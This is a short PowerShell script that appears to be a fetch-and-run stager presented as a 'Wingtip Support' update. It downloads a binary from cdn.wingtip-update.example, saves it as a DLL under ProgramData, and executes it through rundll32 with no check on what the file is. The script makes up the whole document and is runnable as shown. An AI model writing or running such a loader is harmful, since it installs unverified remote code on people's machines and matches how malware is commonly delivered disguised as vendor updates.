$d = "$env:ProgramData\Wingtip\Support"
Invoke-WebRequest -Uri https://cdn.wingtip-update.example/wts/upd.bin -OutFile "$d\wtsupd.dll"
Start-Process rundll32.exe -ArgumentList "$d\wtsupd.dll,WtsPluginInit"
